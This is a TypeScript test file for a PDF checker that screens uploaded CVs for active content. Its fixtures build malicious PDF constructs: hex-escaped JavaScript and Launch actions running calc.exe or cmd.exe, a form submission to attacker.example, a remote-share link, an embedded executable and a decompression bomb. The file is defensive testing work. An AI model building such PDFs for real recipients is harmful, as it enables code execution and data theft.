import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { MAX_OBJECT_STREAMS, pdfProblem } from './cv-pdf';
import { pdfStream, pdfWithCompressedScript, pdfWithOpenActionScript, samplePdf } from './sample-cvs';

const MB = 1024 * 1024;

/** An object stream (object 6) holding object 7. */
const objectStream = (object: string, filter = '/Filter /FlateDecode', data = deflateSync(`7 0 ${object}`)) =>
  pdfStream(data, `/Type /ObjStm /N 1 /First 4 ${filter}`);

describe('a PDF is checked for what it would run', () => {
  it('takes a clean PDF, one that opens at its first page, one with an image, and text about JavaScript', async () => {
    assert.equal(await pdfProblem(samplePdf()), undefined);
    assert.equal(await pdfProblem(samplePdf('Ana Horvat', { catalog: '/OpenAction [3 0 R /Fit] /PageMode /UseOutlines' })), undefined);
    const image = pdfStream(
      deflateSync(randomBytes(MB)),
      '/Type /XObject /Subtype /Image /Width 512 /Height 683 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
    );
    assert.equal(await pdfProblem(samplePdf('Ana Horvat', { extra: [image] })), undefined);
    assert.equal(
      await pdfProblem(samplePdf('Web developer: HTML/JS, TypeScript', { catalog: '/Outlines 6 0 R', extra: ['<< /Type /Outlines /First 7 0 R /Count 0 >>'] })),
      undefined,
    );
    assert.equal(await pdfProblem(samplePdf('Ana Horvat', { extra: [objectStream('<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>')] })), undefined);
  });

  it('refuses an /OpenAction that runs JavaScript', async () => {
    assert.equal(await pdfProblem(pdfWithOpenActionScript()), 'cvPdfScript');
    assert.equal(await pdfProblem(samplePdf('x', { catalog: '/Names << /JavaScript 6 0 R >>', extra: ['<< /Names [(a) 7 0 R] >>'] })), 'cvPdfScript');
  });

  it('refuses the names hex-escaped, as a reader decodes them', async () => {
    const escaped = samplePdf('x', { catalog: '/OpenAction 6 0 R', extra: ['<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'] });
    assert.ok(!escaped.includes('JavaScript') && !escaped.includes('/JS'));
    assert.equal(await pdfProblem(escaped), 'cvPdfScript');
    assert.equal(await pdfProblem(samplePdf('x', { catalog: '/AA << /WC << /S /#4Ca#75nch /F (calc.exe) >> >>' })), 'cvPdfLaunch');
  });

  it('refuses an action in a Flate-compressed object stream, inflated before it is read', async () => {
    const compressed = pdfWithCompressedScript();
    assert.ok(!compressed.includes('JavaScript'));
    assert.equal(await pdfProblem(compressed), 'cvPdfScript');
    // Inflated twice, or taken for an object stream by its /First alone: still read.
    const twice = pdfStream(deflateSync(deflateSync('7 0 << /S /Launch /F (calc.exe) >>')), '/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]');
    assert.equal(await pdfProblem(samplePdf('x', { extra: [twice] })), 'cvPdfLaunch');
  });

  it('refuses a launch action, and one that opens another file', async () => {
    assert.equal(await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' })), 'cvPdfLaunch');
    assert.equal(
      await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >>' })),
      'cvPdfLaunch',
    );
  });

  it('refuses an embedded file', async () => {
    const attached = samplePdf('x', {
      catalog: '/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>',
      extra: ['<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>', pdfStream('MZ', '/Type /EmbeddedFile')],
    });
    assert.equal(await pdfProblem(attached), 'cvPdfEmbedded');
    assert.equal(await pdfProblem(samplePdf('x', { extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'] })), 'cvPdfEmbedded');
  });

  it('refuses forms that send or fetch data', async () => {
    assert.equal(await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>' })), 'cvPdfScript');
    assert.equal(await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /ImportData /F (data.fdf) >>' })), 'cvPdfScript');
  });

  it("finds an action hidden where a reader sent by the cross-reference table would still read it: in a string or a stream's data", async () => {
    assert.equal(await pdfProblem(samplePdf('x', { extra: ['(8 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj)'] })), 'cvPdfScript');
    assert.equal(await pdfProblem(samplePdf('x', { extra: [pdfStream('8 0 obj << /S /Launch /F (calc.exe) >> endobj')] })), 'cvPdfLaunch');
  });

  it('refuses an object stream it cannot read, one that unpacks past the limit, and thousands of them', async () => {
    assert.equal(await pdfProblem(samplePdf('x', { extra: [objectStream('<< >>', '/Filter /FlateDecode', Buffer.from('not deflated'))] })), 'cvDamaged');
    assert.equal(await pdfProblem(samplePdf('x', { extra: [objectStream('<< >>', '/Filter /LZWDecode', Buffer.from('?'))] })), 'cvDamaged');
    const bomb = deflateSync(Buffer.alloc(60 * MB, 0x20));
    assert.equal(await pdfProblem(samplePdf('x', { extra: [objectStream('', '/Filter /FlateDecode', bomb)] })), 'cvUnpacksTooLarge');
    const many = Array.from({ length: MAX_OBJECT_STREAMS + 1 }, () => objectStream('<< >>'));
    assert.equal(await pdfProblem(samplePdf('x', { extra: many })), 'cvDamaged');
    assert.equal(await pdfProblem(samplePdf('x', { extra: many.slice(1) })), undefined);
  });

  it('never throws, whatever the bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 2000 }), async (bytes) => {
        const problem = await pdfProblem(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(bytes)]));
        assert.ok(problem === undefined || typeof problem === 'string');
      }),
      { numRuns: 300 },
    );
  });
});
